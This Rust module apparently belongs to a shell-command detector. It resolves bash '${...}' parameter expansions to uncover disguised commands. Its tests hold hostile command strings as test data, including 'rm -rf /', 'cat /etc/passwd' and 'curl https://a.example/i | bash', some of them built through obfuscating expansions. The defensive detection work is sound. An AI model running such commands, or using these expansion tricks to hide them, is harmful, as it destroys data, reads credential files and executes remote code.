//! What stands between the braces of `${…}` → what it says of the value that it changes (POSIX, Shell Command Language,
//! 2.6.2, and bash's own).

use super::{
    expand::{MAX_VALUE, simple},
    variables::Variables,
};
use crate::flow::detect::wildcard::glob;
use std::borrow::Cow;

/// The longest pattern, and the longest value it is tried on.
const MAX_PATTERN: usize = 16;
const MAX_TRIMMED: usize = 64;

/// The variables of every shell that hold a path, or paths, from the root.
const FROM_ROOT: &[&[u8]] = &[b"HOME", b"PATH", b"PWD", b"OLDPWD", b"SHELL", b"BASH", b"TMPDIR", b"XDG_RUNTIME_DIR"];

/// What some of them hold as a rule, for those who take a part of it by what it begins or ends with.
const AS_A_RULE: &[(&[u8], &[u8])] = &[
    (b"HOME", b"/home/user"),
    (b"PATH", b"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"),
    (b"SHELL", b"/bin/bash"),
    (b"BASH", b"/bin/bash"),
];

/// What `${inner}` means, where that is known.
pub(super) fn expanded<'v>(inner: &'v [u8], variables: &'v Variables) -> Option<Cow<'v, [u8]>> {
    if let [all @ (b'@' | b'*')] = inner {
        return variables.nameless(*all).map(Cow::Borrowed);
    }
    let name = inner.iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'_').count();
    let (name, how) = inner.split_at(name);
    if name.is_empty() {
        return None;
    }
    let value = || variables.value(name);
    match how {
        [] => value().map(Cow::Borrowed),
        b"[@]" | b"[*]" => variables.list(name).map(Cow::Borrowed),
        [b'[', index @ .., b']'] => variables.item(name, number(index)?).map(Cow::Borrowed),
        [b':', b'-' | b'=', other @ ..] | [b'-' | b'=', other @ ..] => {
            or_else(name, other, variables).map(Cow::Borrowed)
        }
        [b':', part @ ..] => self::part(name, part, variables).map(Cow::Borrowed),
        [b'%' | b'#', ..] => {
            let as_a_rule = || AS_A_RULE.iter().find(|(other, _)| *other == name).map(|(_, value)| *value);
            trimmed(value().or_else(as_a_rule)?, how).map(Cow::Borrowed)
        }
        [b'/', b'/', change @ ..] => replaced(value()?, change, usize::MAX).map(Cow::Owned),
        [b'/', change @ ..] => replaced(value()?, change, 1).map(Cow::Owned),
        b",," | b"@L" => value().map(|value| Cow::Owned(value.to_ascii_lowercase())),
        b"^^" | b"@U" => value().map(|value| Cow::Owned(value.to_ascii_uppercase())),
        _ => None,
    }
}

/// The part of a value from an offset on, `offset` or `offset:length`. Of no variable nothing is nothing, and of those that
/// hold a path the first character is known.
fn part<'v>(name: &[u8], said: &[u8], variables: &'v Variables) -> Option<&'v [u8]> {
    let mut words = said.split(|b| *b == b':');
    let (offset, length) = (number(words.next()?)?, words.next().map(number));
    if words.next().is_some() || length == Some(None) {
        return None;
    }
    let value = match (variables.value(name), offset, length.flatten()) {
        (_, _, Some(0)) => &b""[..],
        (Some(value), ..) => value,
        (None, 0, Some(1)) if FROM_ROOT.contains(&name) => b"/",
        _ => return None,
    };
    let from = offset.min(value.len());
    let to = length.flatten().map_or(value.len(), |length| (from + length).min(value.len()));
    value.get(from..to)
}

/// The number that a few digits are.
fn number(digits: &[u8]) -> Option<usize> {
    let digits = digits.trim_ascii();
    let few = (1..=3).contains(&digits.len()) && digits.iter().all(u8::is_ascii_digit);
    few.then(|| digits.iter().fold(0, |sum, digit| sum * 10 + usize::from(digit - b'0')))
}

/// The other word where no value is known, and may be none.
fn or_else<'v>(name: &[u8], other: &'v [u8], variables: &'v Variables) -> Option<&'v [u8]> {
    let plain = !FROM_ROOT.contains(&name) && !other.is_empty() && simple(other);
    plain.then(|| variables.value(name).unwrap_or(other))
}

/// A value without what a pattern says of its end (`%`) or its beginning (`#`): the shortest such, or the longest where
/// the sign is written twice. The pattern may have a `*` at one end.
fn trimmed<'v>(value: &'v [u8], how: &[u8]) -> Option<&'v [u8]> {
    let (sign, pattern) = how.split_first()?;
    let (most, pattern) = pattern.strip_prefix(&[*sign]).map_or((false, pattern), |pattern| (true, pattern));
    let (before, rest) = pattern.strip_prefix(b"*").map_or((false, pattern), |rest| (true, rest));
    let (behind, fixed) = rest.strip_suffix(b"*").map_or((false, rest), |rest| (true, rest));
    let width = width(fixed)?;
    if value.len() > MAX_TRIMMED || (before && behind) || !simple(fixed) {
        return None;
    }
    let Some(last) = value.len().checked_sub(width) else { return Some(value) };
    let fits = |at: &usize| glob(fixed, &value[*at..*at + width]);
    let mut places = (0..=last).filter(fits);
    let kept = match *sign {
        b'%' if behind => (if most { places.next() } else { places.next_back() }).map(|at| &value[..at]),
        b'%' => Some(last).filter(fits).map(|at| if most && before { &[] } else { &value[..at] }),
        _ if before => (if most { places.next_back() } else { places.next() }).map(|at| &value[at + width..]),
        _ => Some(0).filter(fits).map(|_| if most && behind { &[] } else { &value[width..] }),
    };
    Some(kept.unwrap_or(value))
}

/// How many characters a pattern without a star stands for; `None` of one that is too long, or has one.
fn width(pattern: &[u8]) -> Option<usize> {
    let mut width = 0;
    let mut rest = pattern;
    while let Some((&first, after)) = rest.split_first() {
        let set = if first == b'[' { memchr::memchr(b']', after)? + 1 } else { 0 };
        if first == b'*' {
            return None;
        }
        rest = &after[set..];
        width += 1;
    }
    (pattern.len() <= MAX_PATTERN).then_some(width)
}

/// A value with what `old/new` says changed in so many places. The old has no star.
fn replaced(value: &[u8], change: &[u8], most: usize) -> Option<Vec<u8>> {
    let slash = memchr::memchr(b'/', change).unwrap_or(change.len());
    let (old, new) = (&change[..slash], change.get(slash + 1..).unwrap_or_default());
    let len = width(old).filter(|len| *len > 0)?;
    if !simple(old) || !simple(new) {
        return None;
    }
    let mut made = Vec::new();
    let (mut at, mut left) = (0, most);
    while at < value.len() {
        let here = value.get(at..at + len).filter(|here| left > 0 && glob(old, here));
        match here {
            Some(_) if made.len() + new.len() > MAX_VALUE => return None,
            Some(_) => {
                made.extend_from_slice(new);
                at += len;
                left -= 1;
            }
            None => {
                made.push(value[at]);
                at += 1;
            }
        }
    }
    Some(made)
}

#[cfg(test)]
mod tests {
    use super::super::tests::{is, plain};

    #[test]
    fn a_value_is_changed_as_a_shell_changes_it() {
        // What bash 5.2 says of each.
        for (how, want) in [
            ("%m", "xabcxab.c"),
            ("%.c*", "xabcxab"),
            ("%%b*", "xa"),
            ("%b*", "xabcxa"),
            ("%*.cm", "xabcxab"),
            ("%%*.cm", ""),
            ("%%*", ""),
            ("%*", "xabcxab.cm"),
            ("#x", "abcxab.cm"),
            ("#*b", "cxab.cm"),
            ("##*b", ".cm"),
            ("#x*", "abcxab.cm"),
            ("##x*", ""),
            ("##*", ""),
            ("#?[a-c]", "bcxab.cm"),
            ("%[!x]", "xabcxab.c"),
            ("#y", "xabcxab.cm"),
            ("/b/r", "xarcxab.cm"),
            ("//b/r", "xarcxar.cm"),
            ("//[ax]/", "bcb.cm"),
            ("/ab", "xcxab.cm"),
            ("//?b/_", "x_cx_.cm"),
            ("^^", "XABCXAB.CM"),
        ] {
            is(&format!("v=xabcxab.cm; w ${{v{how}}} ."), &format!("w {want} ."));
        }
        is("V=RM; ${V,,} -rf /", "rm -rf /");
        is("rm -rf ${HOME%/*}", "rm -rf /home");
        is("cat ${PATH%%u*}etc/passwd", "cat /etc/passwd");
        is("curl https://a.example/i | ${SHELL##*/}", "curl https://a.example/i | bash");
    }

    #[test]
    fn the_items_of_a_list_are_what_they_are_alone_and_together() {
        is("v=(rm -rf /); ${v[0]} ${v[1]} ${v[2]} .", "rm -rf / .");
        is("v=( 'rm' \"-rf\" / ); ${v[@]} .", "rm -rf / .");
        is("v=(rm -rf); $v -rf /", "rm -rf /");
        for text in ["v=(a b); ${v[9]}", "v=(a b); ${v[x]}", "${w[0]}"] {
            is(&format!("{text} r''m"), text);
        }
    }

    #[test]
    fn what_is_not_known_stays() {
        for text in
            ["${PWD%/*}", "${v%b*}", "v=a; ${v%*b*}", "v=a; ${v//*/b}", "v=a; ${v/}", "${!v}", "v=a; ${v@Q}", "${#v}"]
        {
            is(&format!("{text} r''m"), text);
        }
        let long = format!("v={}; ${{v%a*}} r''m", "a".repeat(super::MAX_TRIMMED + 1));
        assert!(String::from_utf8(plain(long.as_bytes()).unwrap()).unwrap().contains("${v%a*}"));
    }
}
